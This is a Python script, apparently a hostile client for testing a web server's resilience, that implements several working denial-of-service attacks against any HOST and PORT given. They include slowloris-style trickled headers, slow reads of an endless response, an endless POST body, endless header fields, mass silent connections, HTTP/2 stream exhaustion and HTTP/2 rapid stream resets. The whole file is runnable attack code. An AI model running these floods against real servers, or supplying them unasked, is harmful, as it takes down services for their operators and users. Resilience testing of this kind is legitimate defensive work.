"""A client of HTTP that means no good: hostile_client.py HOST PORT WAY COUNT. Says `ready` when it has done what it came
for, and then holds on to what it has until it is ended.

readers: asks for an endless answer and reads nothing of it          senders: a byte of a head now and then
bodies:  sends without end to who does not read                      headers: fields without end
silent:  connects, says nothing, and comes again when turned away
streams: readers, as streams of HTTP/2, each connection a hundred    resets:  opens and resets streams of HTTP/2
"""
import resource
import select
import socket
import struct
import sys
import time

host, port, way, count = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])
ENDLESS = b"GET /endless HTTP/1.1\r\nHost: w\r\n\r\n"
ENDLESS_BODY = b"POST /sink HTTP/1.1\r\nHost: w\r\nContent-Length: 1000000000000\r\n\r\n"
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def connect():
    s = socket.create_connection((host, port), 20)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    return s


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request(stream):
    fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"w"), (b":path", b"/endless")]
    block = b"".join(b"\0" + bytes([len(n)]) + n + bytes([len(v)]) + v for n, v in fields)
    return frame(1, 5, stream, block)


def http2():
    s = connect()
    # Streams of the largest window, so that nothing but the receiver's own bounds holds the sender back.
    window = struct.pack(">HI", 4, 0x7FFFFFFF)
    s.sendall(PREFACE + frame(4, 0, 0, window) + frame(8, 0, 0, struct.pack(">I", 0x7FFF0000 - 65535)))
    return s


def flood(sockets, block, seconds):
    """Sends to whoever takes it; says how much went out."""
    sent, ends = 0, time.monotonic() + seconds
    for s in sockets:
        s.setblocking(False)
    while time.monotonic() < ends and sockets:
        _, ready, _ = select.select([], sockets, [], 0.2)
        for s in ready:
            try:
                sent += s.send(block)
            except BlockingIOError:
                pass
            except OSError:
                sockets.remove(s)
    return sent


def silent():
    """So many connections at any time; says what became of the first ones after 5 s, and goes on."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (count + 100, count + 100))
    poll, open_now, turned_away, told = select.epoll(), {}, 0, time.monotonic() + 5
    while True:
        while len(open_now) < count:
            s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET)
            s.setblocking(False)
            s.connect_ex((host, port))
            open_now[s.fileno()] = s
            poll.register(s, select.EPOLLIN | select.EPOLLERR | select.EPOLLHUP)
        for descriptor, _ in poll.poll(0.1):
            poll.unregister(descriptor)
            open_now.pop(descriptor).close()
            turned_away += 1
        # A flood, and no race for the processors.
        time.sleep(0.02)
        if told and time.monotonic() > told:
            print("ready, turned away %d times" % turned_away, flush=True)
            told = None


held, said = [], ""
if way == "silent":
    silent()
elif way == "readers":
    for _ in range(count):
        s = connect()
        s.sendall(ENDLESS)
        held.append(s)
    time.sleep(5)
elif way == "senders":
    held = [connect() for _ in range(count)]
    for _ in range(5):
        for s in held:
            s.sendall(b"G" if _ == 0 else b"E")
        time.sleep(1)
elif way == "bodies":
    for _ in range(count):
        s = connect()
        s.sendall(ENDLESS_BODY)
        held.append(s)
    said = "%d bytes sent" % flood(held, b"b" * 65536, 5)
elif way == "headers":
    for _ in range(count):
        s = connect()
        s.sendall(b"GET / HTTP/1.1\r\nHost: w\r\n")
        held.append(s)
    said = "%d bytes sent" % flood(held, b"x-more: " + b"m" * 4000 + b"\r\n", 5)
elif way == "streams":
    for _ in range(max(1, count // 100)):
        s = http2()
        s.sendall(b"".join(request(1 + 2 * n) for n in range(100)))
        held.append(s)
    time.sleep(5)
elif way == "resets":
    sent = 0
    for _ in range(max(1, count // 100)):
        s = http2()
        held.append(s)
        try:
            for n in range(5000):
                s.sendall(request(1 + 2 * n) + frame(3, 0, 1 + 2 * n, struct.pack(">I", 8)))
                sent += 1
        except OSError:
            pass
    said = "%d resets sent" % sent
    time.sleep(2)
print("ready", said, flush=True)
time.sleep(600)
